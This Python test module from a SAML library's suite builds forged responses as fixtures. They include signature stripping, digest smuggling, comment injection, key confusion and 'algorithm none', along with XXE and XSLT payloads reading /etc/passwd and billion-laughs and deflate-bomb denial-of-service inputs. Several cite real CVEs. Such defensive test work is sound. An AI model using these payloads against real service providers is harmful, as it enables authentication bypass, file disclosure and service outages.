"""Forgeries that do not move the signed element: signatures stripped, faked or confused, values cut, parsers made to disagree."""

import base64
import hashlib
import zlib
from copy import deepcopy
from typing import Any

import xmlsec
from cryptography.hazmat.primitives import serialization
from lxml import etree

from ostiary.saml import names
from ostiary.saml.signature import sign
from ostiary.saml.xml import Element, parse_xml, qname, to_bytes
from tests.attacks.wrapping import ADMIN, ASSERTION, SIGNATURE, forged, response, the
from tests.saml.world import HANDLE, private_key, private_pem, signer

DSIG = "http://www.w3.org/2000/09/xmldsig#"
MORE = "http://www.w3.org/2001/04/xmldsig-more#"


def ds(name: str) -> str:
    """The tag of an element of XML Signature."""
    return qname(names.DS, name)


def _strip(root: Element, holder: Element) -> bytes:
    holder.remove(the(holder, SIGNATURE))
    return to_bytes(root)


def response_signature_stripped() -> bytes:
    """Only the Response was signed, and that signature is gone."""
    root = response(assertion_signed=False, response_signed=True)
    return _strip(root, root)


def assertion_signature_stripped() -> bytes:
    """Only the assertion was signed, and that signature is gone."""
    root = response()
    return _strip(root, the(root, ASSERTION))


def inner_signature_stripped() -> bytes:
    """Both were signed; the assertion's signature is gone."""
    root = response(response_signed=True)
    return _strip(root, the(root, ASSERTION))


def outer_signature_stripped() -> bytes:
    """Both were signed; the Response's signature is gone. What was signed inside is as good as before."""
    root = response(response_signed=True)
    root.remove(root[1])
    return to_bytes(root)


def outer_signature_stripped_and_forged() -> bytes:
    """The same, with another person in the assertion."""
    root = response(response_signed=True)
    root.remove(root[1])
    the(root, qname(names.SAML, "NameID")).text = ADMIN
    return to_bytes(root)


def tampered(root: Element) -> Element:
    """Another person in the same assertion, the signature left as it is."""
    the(root, qname(names.SAML, "NameID")).text = ADMIN
    return root


def value_changed() -> bytes:
    """Another person's handle in the signed assertion."""
    return to_bytes(tampered(response()))


def attribute_added() -> bytes:
    """One more value in the signed assertion."""
    root = response()
    value = the(root, qname(names.SAML, "AttributeValue"))
    value.addnext(deepcopy(value))
    return to_bytes(root)


def _digest_of(assertion: Element) -> str:
    copy = deepcopy(assertion)
    copy.remove(the(copy, SIGNATURE))
    octets = etree.tostring(copy, method="c14n", exclusive=True)
    return base64.b64encode(hashlib.sha256(octets).digest()).decode()


def digest_smuggled_in_status_detail() -> bytes:
    """A DigestValue that fits the forged assertion stands first in the document (CVE-2024-45409)."""
    root = tampered(response())
    detail = etree.SubElement(the(root, qname(names.SAMLP, "Status")), qname(names.SAMLP, "StatusDetail"))
    etree.SubElement(detail, ds("DigestValue")).text = _digest_of(the(root, ASSERTION))
    return to_bytes(root)


def second_digest_value() -> bytes:
    """The Reference holds a second DigestValue that fits the forged assertion (CVE-2024-45409)."""
    root = tampered(response())
    original = the(root, ds("DigestValue"))
    second = deepcopy(original)
    second.text = _digest_of(the(root, ASSERTION))
    original.addprevious(second)
    return to_bytes(root)


def comment_in_digest_value() -> bytes:
    """A comment in DigestValue holds the digest that fits the forged assertion (CVE-2025-29775)."""
    root = tampered(response())
    value = the(root, ds("DigestValue"))
    original, value.text = value.text, None
    value.append(etree.Comment(_digest_of(the(root, ASSERTION))))
    value[0].tail = original
    return to_bytes(root)


def second_signed_info() -> bytes:
    """A second SignedInfo whose digest fits the forged assertion stands before the signed one (CVE-2025-29774)."""
    root = tampered(response())
    original = the(root, ds("SignedInfo"))
    second = deepcopy(original)
    the(second, ds("DigestValue")).text = _digest_of(the(root, ASSERTION))
    original.addprevious(second)
    return to_bytes(root)


def signed_info_in_key_info() -> bytes:
    """The signed SignedInfo is hidden in KeyInfo, a forged one stands in its place (CVE-2025-25292)."""
    root = tampered(response())
    original = the(root, ds("SignedInfo"))
    second = deepcopy(original)
    the(second, ds("DigestValue")).text = _digest_of(the(root, ASSERTION))
    original.addprevious(second)
    the(root, ds("KeyInfo")).append(original)
    return to_bytes(root)


def signature_of_another_namespace() -> bytes:
    """The prefix ds means another namespace around a forged signature, and the real one stands beside it (CVE-2025-25292)."""
    root = tampered(response())
    assertion = the(root, ASSERTION)
    fake = to_bytes(the(assertion, SIGNATURE)).replace(DSIG.encode(), b"urn:not-dsig")
    assertion.insert(1, etree.fromstring(fake))
    the(root, ds("DigestValue")).text = _digest_of(assertion)
    return to_bytes(root)


def signature_by_prefix_only() -> bytes:
    """The only signature is called ds:Signature, in a namespace that is not XML Signature's."""
    return to_bytes(tampered(response())).replace(DSIG.encode(), b"urn:not-dsig")


def id_attributes_of_other_namespaces() -> bytes:
    """Attributes a:ID and b:ID repeat and contradict the ID (CVE-2025-66567)."""
    root = tampered(response())
    assertion = the(root, ASSERTION)
    assertion.set("{urn:a}ID", "_elsewhere")
    assertion.set("{urn:b}ID", assertion.get("ID", ""))
    return to_bytes(root)


def void_canonicalization() -> bytes:
    """A relative namespace name makes canonicalization fail; the DigestValue is that of nothing (CVE-2025-66568)."""
    root = tampered(response())
    the(root, ds("DigestValue")).text = base64.b64encode(hashlib.sha256(b"").digest()).decode()
    return to_bytes(root).replace(b"<saml:Assertion ", b'<saml:Assertion xmlns:v="1" v:v="" ', 1)


def void_canonicalization_of_signed_info() -> bytes:
    """The same in SignedInfo."""
    root = tampered(response())
    the(root, ds("DigestValue")).text = _digest_of(the(root, ASSERTION))
    return to_bytes(root).replace(b"<ds:SignedInfo", b'<ds:SignedInfo xmlns:v="1" v:v=""', 1)


def _signed_by_xmlsec(key: xmlsec.Key, algorithm: Any, digest: Any = xmlsec.constants.TransformSha256) -> bytes:
    """A forged assertion that xmlsec signs with whatever is asked for."""
    root = response(assertion_signed=False)
    assertion = the(root, ASSERTION)
    the(assertion, qname(names.SAML, "NameID")).text = ADMIN
    template = xmlsec.template.create(assertion, xmlsec.constants.TransformExclC14N, algorithm, ns="ds")
    assertion.insert(1, template)
    reference = xmlsec.template.add_reference(template, digest, uri=f"#{assertion.get('ID')}")
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformEnveloped)
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformExclC14N)
    context = xmlsec.SignatureContext()
    context.key = key
    context.register_id(assertion, "ID")
    context.sign(template)
    return to_bytes(root)


def hmac_with_the_public_key() -> bytes:
    """The IdP's public key is the secret of an HMAC (key confusion)."""
    secret = (
        private_key()
        .public_key()
        .public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    )
    key = xmlsec.Key.from_binary_data(xmlsec.constants.KeyDataHmac, secret)
    return _signed_by_xmlsec(key, xmlsec.constants.TransformHmacSha256)


def sha1_signature() -> bytes:
    """A signature with rsa-sha1 by the IdP's own key, as collisions could forge it."""
    key = xmlsec.Key.from_memory(private_pem(), xmlsec.constants.KeyDataFormatPem, None)
    return _signed_by_xmlsec(key, xmlsec.constants.TransformRsaSha1, xmlsec.constants.TransformSha1)


def key_in_the_message() -> bytes:
    """Signed by the attacker, whose certificate, with the IdP's subject, is in KeyInfo (CVE-2021-21239)."""
    root = response(assertion_signed=False)
    assertion = the(root, ASSERTION)
    the(assertion, qname(names.SAML, "NameID")).text = ADMIN
    sign(assertion, signer("rsa", "attacker"))
    return to_bytes(root)


def real_certificate_in_the_message() -> bytes:
    """Signed by the attacker, with the IdP's real certificate in KeyInfo."""
    root = parse_xml(key_in_the_message())
    the(root, ds("X509Certificate")).text = base64.b64encode(signer().certificate).decode()
    return to_bytes(root)


def key_value_in_the_message() -> bytes:
    """Signed by the attacker, with a bare KeyValue first in KeyInfo."""
    root = parse_xml(key_in_the_message())
    numbers: Any = private_key("rsa", "attacker").public_key().public_numbers()
    value = etree.Element(ds("KeyValue"))
    rsa_value = etree.SubElement(value, ds("RSAKeyValue"))
    for name, number in (("Modulus", numbers.n), ("Exponent", numbers.e)):
        octets = number.to_bytes((number.bit_length() + 7) // 8)
        etree.SubElement(rsa_value, ds(name)).text = base64.b64encode(octets).decode()
    the(root, ds("KeyInfo")).insert(0, value)
    return to_bytes(root)


def algorithm_none() -> bytes:
    """A signature without a signature."""
    root = tampered(response())
    the(root, ds("SignatureMethod")).set("Algorithm", "none")
    the(root, ds("SignatureValue")).text = ""
    return to_bytes(root)


def _transform(algorithm: str, parameter: Element) -> bytes:
    root = response()
    transform = the(root, ds("Transforms"))[1]
    transform.set("Algorithm", algorithm)
    transform.append(parameter)
    return to_bytes(tampered(root))


def xslt_transform() -> bytes:
    """A stylesheet as transform, to be run before anything is verified."""
    sheet = etree.fromstring(
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        "<xsl:value-of select=\"document('file:///etc/passwd')\"/></xsl:template></xsl:stylesheet>"
    )
    return _transform("http://www.w3.org/TR/1999/REC-xslt-19991116", sheet)


def xpath_transform() -> bytes:
    """An XPath filter as transform that leaves nothing to be signed."""
    parameter = etree.Element(ds("XPath"))
    parameter.text = "false()"
    return _transform("http://www.w3.org/TR/1999/REC-xpath-19991116", parameter)


def _name(inside: str) -> bytes:
    """The signed assertion of somebody whose handle holds the victim's, with something put between the two halves."""
    return to_bytes(response()).replace(HANDLE.encode(), f"{HANDLE[:6]}{inside}{HANDLE[6:]}".encode())


def comment_in_name() -> bytes:
    """A comment, which the signature does not cover, cuts the name in two (CVE-2017-11427 and its family, CVE-2018-0489)."""
    return _name("<!-- -->")


def cdata_in_name() -> bytes:
    """A CDATA section in the name."""
    return to_bytes(response()).replace(HANDLE.encode(), f"<![CDATA[{HANDLE[:6]}]]>{HANDLE[6:]}".encode())


def instruction_in_name() -> bytes:
    """A processing instruction in the name."""
    return _name("<?x y?>")


def comment_in_attribute_value() -> bytes:
    """A comment cuts an attribute value in two."""
    return to_bytes(response()).replace(b"alma@northgate.example", b"alma@northgate.example<!-- -->")


def comment_in_audience() -> bytes:
    """A comment in the audience."""
    return to_bytes(response()).replace(
        b"https://library.example/sp</saml:Audience>", b"https://library<!-- -->.example/sp</saml:Audience>"
    )


def two_roots() -> bytes:
    """A forged Response and the signed one, one behind the other (CVE-2022-39299)."""
    original = response(assertion_signed=False, response_signed=True)
    return to_bytes(forged(original)) + to_bytes(original)


def two_assertions() -> bytes:
    """The signed assertion first and a forged one behind it (CVE-2022-41912)."""
    root = response()
    root.append(forged(the(root, ASSERTION)))
    return to_bytes(root)


def document_type() -> bytes:
    """A document type in front of the signed document, so that two parsers see two documents (CVE-2025-25291)."""
    return b"<!DOCTYPE samlp:Response [<!ATTLIST x y CDATA #IMPLIED>]>" + to_bytes(response())


def declared_entity_in_name() -> bytes:
    """An entity in the name."""
    return b"<!DOCTYPE x [<!ENTITY e ''>]>" + _name("&e;")


def entity_in_id() -> bytes:
    """An entity in the ID that the signature refers to (CVE-2025-23369)."""
    data = to_bytes(response(assertion_signed=False, response_signed=True))
    return b"<!DOCTYPE x [<!ENTITY e '_r8e8dc5f69a98cc4c1'>]>" + data.replace(
        b' ID="_r8e8dc5f69a98cc4c1"', b' ID="&e;"', 1
    )


def external_entity() -> bytes:
    """An entity that is a file (XXE)."""
    return b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>" + _name("&e;")


def external_parameter_entity() -> bytes:
    """A parameter entity on the network (XXE)."""
    return b"<!DOCTYPE x [<!ENTITY % e SYSTEM 'http://127.0.0.1:1/x'> %e;]>" + to_bytes(response())


def billion_laughs() -> bytes:
    """Entities of entities."""
    levels = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    return f"<!DOCTYPE x [<!ENTITY l0 'lol'>{levels}]>".encode() + _name("&l9;")


def quadratic_blowup() -> bytes:
    """One long entity, often."""
    return f"<!DOCTYPE x [<!ENTITY a '{'a' * 50_000}'>]>".encode() + _name("&a;" * 5_000)


def utf_16_document_type() -> bytes:
    """A document type in UTF-16, which a search for its octets misses."""
    return ("\ufeff<!DOCTYPE x [<!ENTITY e ''>]>" + to_bytes(response()).decode()).encode("utf-16-le")


def flood_of_attributes() -> bytes:
    """One element with so many attributes that canonicalization takes a second."""
    flood = "".join(f' a{number}=""' for number in range(15_000))
    return to_bytes(response()).replace(
        b"<samlp:Status>", f'<samlp:Extensions><x xmlns="urn:x"{flood}/></samlp:Extensions><samlp:Status>'.encode()
    )


def flood_of_elements() -> bytes:
    """So many wrong elements that the list of complaints takes seconds."""
    return to_bytes(response()).replace(
        b"<samlp:Status>", b"<samlp:Extensions>" + b"<saml:Subject/>" * 12_000 + b"</samlp:Extensions><samlp:Status>"
    )


def deep_nesting() -> bytes:
    """Nested deeper than a recursion takes."""
    return to_bytes(response()).replace(
        b"<samlp:Status>",
        b"<samlp:Extensions>" + b"<a>" * 8_000 + b"</a>" * 8_000 + b"</samlp:Extensions><samlp:Status>",
    )


def eight_megabytes() -> bytes:
    """A message far beyond every limit."""
    return to_bytes(response()) + b" " * 8_000_000


def colons_in_names() -> bytes:
    """Names with two colons, which some parsers change when they write them again (CVE-2020-29509 to 29511)."""
    return to_bytes(response()).replace(b"<samlp:Status>", b"<samlp:Extensions><::x/></samlp:Extensions><samlp:Status>")


def encrypted_assertion() -> bytes:
    """An encrypted assertion, unsigned, for whoever decrypts before verifying."""
    root = response()
    assertion = the(root, ASSERTION)
    encrypted = etree.Element(qname(names.SAML, "EncryptedAssertion"))
    data = etree.SubElement(encrypted, qname(names.XENC, "EncryptedData"))
    cipher = etree.SubElement(data, qname(names.XENC, "CipherData"))
    etree.SubElement(cipher, qname(names.XENC, "CipherValue")).text = "AAAA"
    root.replace(assertion, encrypted)
    return to_bytes(root)


def encrypted_beside_signed() -> bytes:
    """An encrypted assertion beside the signed one."""
    root = response()
    etree.SubElement(root, qname(names.SAML, "EncryptedAssertion")).append(
        etree.Element(qname(names.XENC, "EncryptedData"))
    )
    return to_bytes(root)


def other_issuer() -> bytes:
    """The Response names the IdP, the signed assertion inside names itself another."""
    root = response(assertion_signed=False)
    assertion = the(root, ASSERTION)
    assertion[0].text = "https://idp.other.example"
    sign(assertion, signer())
    return to_bytes(root)


def deflate_bomb() -> str:
    """40 MB of a query parameter."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = compressor.compress(b"<a>" + b" " * 40_000_000) + compressor.flush()
    return "SAMLRequest=" + base64.b64encode(bomb).decode().replace("+", "%2B").replace("/", "%2F").replace("=", "%3D")
